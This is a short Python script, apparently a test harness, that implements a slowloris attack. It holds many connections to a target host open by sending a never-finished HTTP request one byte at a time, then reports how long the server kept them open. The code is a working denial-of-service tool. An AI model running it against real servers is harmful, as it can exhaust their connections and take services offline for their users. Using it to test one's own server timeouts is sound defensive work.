#!/usr/bin/env python3
"""A slow sender (slowloris): open COUNT connections to HOST PORT and send
one byte of a request every INTERVAL seconds, never finishing it, for at most
DURATION seconds. Prints "opened N refused R held H longest_s L": how many
connected, how many could not, how many the server kept open past a second,
and the longest it kept one (DURATION if one was never closed). Bounded by
DURATION.

  slow_client.py HOST PORT COUNT INTERVAL DURATION
"""
import select
import socket
import sys
import time


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    interval, duration = float(sys.argv[4]), float(sys.argv[5])
    request = b"GET /api/v1/status HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX-Slow: " + b"a" * 4096
    conns, refused = [], 0
    start = time.monotonic()
    for _ in range(count):
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect((host, port))
            s.setblocking(False)
            conns.append([s, 0, time.monotonic(), None])
        except OSError:
            refused += 1
            s.close()
    next_send = time.monotonic()
    while time.monotonic() - start < duration and any(c[3] is None for c in conns):
        now = time.monotonic()
        if now >= next_send:
            for c in conns:
                if c[3] is None and c[1] < len(request):
                    try:
                        c[0].send(request[c[1]:c[1] + 1])
                        c[1] += 1
                    except OSError:
                        c[3] = now - c[2]
            next_send = now + interval
        live = [c[0] for c in conns if c[3] is None]
        r, _, _ = select.select(live, [], [], 0.2)
        for s in r:
            c = next(c for c in conns if c[0] is s)
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # closed by the server (a response would be data: the deadline says nothing)
                c[3] = time.monotonic() - c[2]
    lasted = [c[3] if c[3] is not None else duration for c in conns]
    held = sum(1 for t in lasted if t > 1.0)
    print(f"opened {len(conns)} refused {refused} held {held} longest_s {max(lasted) if lasted else 0:.1f}")
    for c in conns:
        c[0].close()


if __name__ == "__main__":
    main()
